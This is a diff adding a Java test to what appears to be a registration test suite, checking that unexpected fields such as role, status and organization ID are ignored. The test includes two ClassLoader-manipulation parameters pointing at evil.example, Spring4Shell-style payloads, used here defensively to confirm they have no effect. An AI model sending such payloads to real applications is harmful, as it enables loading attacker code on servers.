@@ -70,6 +70,25 @@ class RegistrationTest {
     }
 
     @Test
+    void fieldsThatNoFormHasSayNothing() {
+        user();
+        var answer = company(
+                "creditCode", creditCode,
+                "role", "OPERATOR",
+                "position", "CLERK",
+                "status", "APPROVED",
+                "approvedAt", "2026-01-01T00:00",
+                "organizationId", "1",
+                "company.organizationId", "1",
+                "class.module.classLoader.resources.context.configFile", "http://evil.example",
+                "class.classLoader.URLs[0]", "jar:http://evil.example!/");
+        assertThat(answer.location()).isEqualTo("/register/done");
+        var client = Client.signedIn(port, login);
+        assertThat(client.get("/account").body()).contains("外贸企业（主账户）");
+        assertThat(client.get("/console/open-trainings").status()).isEqualTo(403);
+    }
+
+    @Test
     void oneOfTheTwoTelephonesMustBeThere() {
         user();
         assertThat(company("creditCode", creditCode, "mobile", "").body()).contains("手机号码和固定电话至少填写一项");
